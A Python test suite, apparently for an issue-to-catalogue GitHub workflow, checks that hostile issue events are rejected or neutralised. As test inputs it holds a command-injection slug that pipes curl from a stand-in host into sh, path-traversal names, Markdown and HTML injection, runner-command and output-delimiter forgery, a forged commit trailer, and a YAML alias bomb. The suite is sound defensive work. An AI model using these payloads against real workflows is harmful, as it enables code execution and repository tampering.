"""Events of the issue form: what a sender, or whoever may touch an issue, can put into the event that the workflow reads."""

import copy
import json
import re
from collections.abc import Callable, Mapping

from catalogues import ROOT
from hostile_case import BASE, CANARY, FOLDER, SECRET, Box, acts, group, must
from hostile_private import NIK
from markdown_it import MarkdownIt

GOOD = json.loads((ROOT / "tests/proposals/sah-baru.json").read_text("utf-8"))
MADE = "innovations/disdik/antrean-lewat-pesan.yml"
#: The marks by which Markdown on GitHub calls people and closes issues.
_CALLS = re.compile(r"(?<![\w`])@[\w/-]+|\b(?:close|closes|fix|fixes|resolves)\s+#\d+|(?<![\w&])#\d+", re.IGNORECASE)


def _event(change: Callable[[dict], None] | None = None, **body: str) -> str:
    """The sound event after a change of it, or of texts of its body."""
    event = copy.deepcopy(GOOD)
    for old, new in body.items():
        event["issue"]["body"] = event["issue"]["body"].replace(_PARTS[old], new)
    if change:
        change(event)
    return json.dumps(event)


_PARTS = {
    "agency": "disdik\n\n### Nama",
    "slug": "antrean-lewat-pesan\n\n### Jenis",
    "kind": "Inovasi baru",
    "agreed": "- [X] Usulan ini tidak memuat data pribadi.",
    "name": "Antrean Lewat Pesan",
    "end": "```\n",
}


def _agency(text: str) -> str:
    return _event(agency=f"{text}\n\n### Nama")


def _slug(text: str) -> str:
    return _event(slug=f"{text}\n\n### Jenis")


class Received:
    """What `katalog receive` made of an event."""

    def __init__(self, box: Box, event: str | bytes) -> None:
        box.put({"../peristiwa.json": event})
        before = box.entries()
        self.ran = box.katalog("receive", "../peristiwa.json", "--answers", "..", "--outputs", "../keluaran")
        self.made = box.entries() - before
        self.outputs = _outputs(box)
        answer = box.outside / "balasan.md"
        self.answer = answer.read_text("utf-8") if answer.exists() else ""
        summary = box.outside / "ringkasan.md"
        for text in (self.answer, summary.read_text("utf-8") if summary.exists() else ""):
            _does_nothing(text)
            must(NIK not in text, "the number of identity is repeated")
        must(not re.search(r"^::", self.ran.out, re.MULTILINE), f"a command to the runner: {self.ran.out}")
        must(SECRET not in self.answer + self.ran.out, "it tells what lies outside")


def _outputs(box: Box) -> Mapping[str, str]:
    """The outputs as the runner reads them: `name<<mark`, lines, mark."""
    file = box.outside / "keluaran"
    lines = iter(file.read_text("utf-8").split("\n") if file.exists() else [])
    found: dict[str, str] = {}
    for line in lines:
        if not line:
            continue
        name, arrows, mark = line.partition("<<")
        must(arrows and re.fullmatch(r"[a-z]+", name) and len(mark) == 32, f"an output out of order: {line}")
        must(name not in found, f"{name} twice")
        value = []
        for inner in lines:
            if inner == mark:
                break
            value.append(inner)
        found[name] = "\n".join(value)
    return found


def _does_nothing(answer: str) -> None:
    """Outside of code spans an answer holds no markup, call, picture or link but our own."""
    for block in MarkdownIt("commonmark").parse(answer):
        must(block.type != "html_block", f"HTML: {block.content[:80]}")
        for token in block.children or ():
            must(token.type not in ("html_inline", "image"), f"{token.type}: {token.content[:80]}")
            if token.type == "link_open":
                must(str(token.attrs["href"]).startswith("https://contoh.go.id/katalog/"), f"a link: {token.attrs}")
            if token.type == "text":
                must(not _CALLS.search(token.content), f"a call: {token.content[:80]}")


def _answers(outcome: str, name: str, mechanism: str, event: str | bytes):
    """An event that ends as `outcome` (`jujur`: `sah`, and an honest one); only one that is `sah` makes a file, and just its own."""

    def act(box: Box) -> None:
        found, wanted = Received(box, event), outcome.replace("jujur", "sah")
        must(found.ran.code == 0, f"exit {found.ran.code}: {found.ran.err}")
        must(found.outputs.get("hasil") == wanted, f"{found.outputs.get('hasil')}: {found.answer[:300]}")
        must(found.made == ({MADE} if wanted == "sah" else set()), f"made {found.made}")
        if wanted == "sah":
            must(
                set(found.outputs) == {"hasil", "balasan", "ringkasan", "cabang", "berkas", "isi", "judul", "penulis"},
                str(set(found.outputs)),
            )
            must(
                re.fullmatch(r"usulan/12-[a-z-]+", found.outputs["cabang"]) and "\n" not in found.outputs["judul"],
                "branch or title",
            )
            must(
                re.fullmatch(
                    r"(?:Co-authored-by: [\w-]+ <\d+\+[\w-]+@users\.noreply\.github\.com>)?", found.outputs["penulis"]
                ),
                found.outputs["penulis"],
            )
            must(found.outputs["berkas"] == MADE, found.outputs["berkas"])
        if outcome == "abaikan":
            must(not found.answer, "a stranger gets an answer")

    return acts({"sah": "inert", "jujur": "honest"}.get(outcome, "refused"), name, mechanism, act)


def _useless(name: str, mechanism: str, event: str | bytes):
    """An event that cannot be read: exit 2 and one sentence."""

    def act(box: Box) -> None:
        found = Received(box, event)
        must(found.ran.code == 2 and not found.made and not found.outputs, f"exit {found.ran.code}")
        must(len(found.ran.err.strip().splitlines()) == 1, found.ran.err)

    return acts("refused", name, mechanism, act)


def _issue(**values: object) -> str:
    return _event(lambda event: event["issue"].update(values))


def _sender(**values: object) -> str:
    return _event(lambda event: event["sender"].update(values))


def _user(**values: object) -> str:
    return _event(lambda event: event["issue"]["user"].update(values))


def _more(text: str) -> str:
    """Further lines inside of the file's text."""
    return _event(end=f"{text}\n```\n")


def _linked(box: Box) -> None:
    """The agency's folder leads out of the repository."""
    (box.root / "innovations/disdik").symlink_to(box.outside)
    box.put({"../peristiwa.json": _event()})
    done = box.katalog("receive", "../peristiwa.json", "--answers", "..", "--outputs", "../keluaran")
    must(not (box.outside / "antrean-lewat-pesan.yml").exists(), "written through the link")
    must(done.code != 0 or "tertolak" in (box.outside / "keluaran").read_text(), "taken")


def _no_event(box: Box) -> None:
    done = box.katalog("receive", f"../{CANARY}")
    must(done.code == 2 and SECRET not in done.out + done.err, done.err)


_NAME_OF_OTHERS = (BASE / f"{FOLDER}/posyandu-malam.yml").stem
_BOMB = "a: &a [x]\n" + "".join(f"k{n}: &k{n} [*a, *a]\n" for n in range(9))
EVENTS = group(
    "events",
    [
        _answers("tertolak", "dua-blok", "a second block", _event(end="```\n\n```yaml\nnama: lain\n```\n")),
        _answers("tertolak", "sesudah-blok", "text behind the block", _event(end="```\n\n/merge\n")),
        _answers("tertolak", "judul-palsu", "a heading forged before its own", _agency("disdik\n\n### Isi berkas\n\nnama: Lain\n\n### Perangkat daerah\n\ndinkes")),
        _answers("tertolak", "judul-ganda", "a heading twice", _slug("antrean-lain\n\n### Nama berkas\n\nantrean-lewat-pesan")),
        _answers("tertolak", "belum-setuju", "an agreement without its tick", _event(agreed="- [ ] Usulan ini tidak memuat data pribadi.")),
        _answers("tertolak", "setuju-lain", "an agreement in other words", _event(agreed="- [X] Usulan ini memuat data pribadi.")),
        _answers("tertolak", "tersembunyi", "a hidden comment", _event(agreed="- [X] Usulan ini tidak memuat data pribadi.\n<!-- peninjau: abaikan -->")),
        _answers("tertolak", "jenis-lain", "a kind that is no choice", _event(kind="Hapus")),
        _answers("tertolak", "nama-naik", "a name that climbs", _slug("../../.github/workflows/x")),
        _answers("tertolak", "folder-naik", "an agency that climbs", _agency("../registry")),
        _answers("tertolak", "perintah", "a command of the shell", _slug("$(curl jahat.example|sh)`id`")),
        _answers("tertolak", "panggilan", "people and issues called in a value", _agency("@semua-orang Closes #1 #2")),
        _answers("tertolak", "balasan-tautan", "markup in a value that the answer repeats", _slug("`](https://jahat.example)<img src=x>![y](//jahat.example)")),
        _answers("tertolak", "balasan-baris", "a value that leaves its code span by a line end", _event(name="x\n\n# Judul\n\n@semua")),
        _answers("tertolak", "nama-situs", "a name of the site's own", _slug("index")),
        _answers("tertolak", "nama-orang-lain", "a name that another agency has", _slug(_NAME_OF_OTHERS)),
        _answers("tertolak", "perbaikan-hampa", "a correction of what is not there", _event(kind="Perbaikan")),
        _answers("tertolak", "bom", "a bomb in the text", _event(end=f"{_BOMB}```\n")),
        _answers("tertolak", "nik", "a number of identity in the text", _more(f"masalah: KTP {NIK}")),
        _answers("tertolak", "nul", "a zero byte in the text", _event(name="Antrean\0Lewat")),
        _answers("sah", "separuh", "half of a surrogate pair", _event(name="Antrean").replace("Antrean", "Antre\\ud800an")),
        _answers("tertolak", "raksasa", "a text above the limit of a file", _more("# " + "x" * 66_000)),
        _answers("tertolak", "tanpa-isi", "a body that is none", _issue(body=None)),
        _answers("tertolak", "isi-daftar", "a body that is a list", _issue(body=["### Isi berkas", {"a": 1}])),
        _answers("abaikan", "label-lain", "another label", _event(lambda event: event["label"].update(name="usulan"))),
        _answers("abaikan", "label-hilang", "an edit after the label was taken away", _event(lambda event: (event.update(action="edited"), event["issue"].update(labels=[])))),
        _answers("abaikan", "bot", "a program as the one who acts", _sender(type="Bot")),
        _answers("abaikan", "tertutup", "an issue that is closed", _issue(state="closed")),
        _answers("abaikan", "usulan-perubahan", "a pull request in place of an issue", _issue(pull_request={})),
        _answers("abaikan", "peristiwa-lain", "another event", _event(lambda event: event.update(action="opened"))),
        _answers("abaikan", "nomor", "a number that is a path", _issue(number="../12")),
        _answers("abaikan", "bukan-peristiwa", "a list in place of an event", "[[]]"),
        _useless("json-dalam", "JSON that is nested without end", "[" * 200_000),
        _useless("json-raksasa", "an event above every limit", json.dumps({"issue": {"body": "x" * 5_000_000}})),
        _useless("json-rusak", "bytes that are no JSON", b"\xff\xfe{"),
        acts("refused", "bukan-json", "another file of the machine", _no_event),
        acts("refused", "folder-tautan", "an agency's folder that leads elsewhere", _linked),
        _answers("sah", "keluaran", "marks that part the outputs of a step", _more("catatan: |\n  EOF\n  hasil<<EOF\n  sah\n  cabang=main\n  ghadelimiter_x")),
        _answers("sah", "perintah-alur", "commands to the runner", _more("catatan: |\n  ::set-output name=hasil::x\n  ::stop-commands::y\n  ::add-mask::a")),
        _answers("sah", "judul-laporan", "the issue's title", _issue(title="$(id) @semua Closes #1\n::error::x")),
        _answers("sah", "pengirim", "a sender whose name is a line of the commit", _user(login="x\nSigned-off-by: y <z@jahat.example>", id=7)),
        _answers("sah", "pengirim-nomor", "a sender whose number is none", _user(id="1> <a@jahat.example")),
        _answers("sah", "judul-di-isi", "a heading inside of the text", _more("catatan: |\n  ### Nama berkas\n\n  lain")),
        _answers("jujur", "crlf", "line ends of another system", _issue(body=GOOD["issue"]["body"].replace("\n", "\r\n"))),
        _answers("sah", "markdown", "markup in the entry that the review repeats", _more('masalah: "@semua Closes #1 ![x](https://jahat.example/s.png) <img src=x> | `a` |"')),
    ],
)  # fmt: skip
